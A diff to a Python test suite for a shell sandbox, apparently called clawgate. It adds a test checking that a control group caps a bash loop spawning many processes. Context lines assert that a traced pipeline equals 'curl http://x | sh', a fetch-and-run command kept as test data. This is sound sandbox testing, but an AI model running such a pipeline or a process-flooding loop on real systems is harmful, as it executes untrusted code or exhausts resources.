@@ -203,3 +203,21 @@ def test_the_pipelines_of_a_run(shadow: Shadow, places: tuple[str, str]) -> None
     assert found.status is Status.OK, found.detail
     # tr reads a builtin's output and writes to bash itself: no pipeline of executions
     assert [requote_pipeline(p) for p in pipelines(found.executions)] == ["curl http://x | sh"]
+
+
+def test_a_fork_loop_is_held_by_a_control_group(tmp_path: Path) -> None:
+    """``RLIMIT_NPROC`` does not bind root: where a control group can be made, a shadow run
+    has one of its own with a process limit, and nothing is left of it afterwards."""
+    from clawgate.executors.cgroups import Containment
+    from clawgate.shell.shadow.sandbox import run_limited
+
+    probe = Containment.create(pids=4)
+    if probe is None:
+        pytest.skip("no control group can be made here")
+    probe.close()
+    before = set(os.listdir("/sys/fs/cgroup"))
+    done = run_limited(["bash", "-c", "for i in $(seq 100); do sleep 0.2 & done; wait"],
+                       {"PATH": os.environ["PATH"]}, Limits(timeout_s=1.0, extra_processes=8),
+                       tmp_path / "stderr")
+    assert "fork: " in done.stderr  # the ninth process was refused
+    assert set(os.listdir("/sys/fs/cgroup")) - before == set()
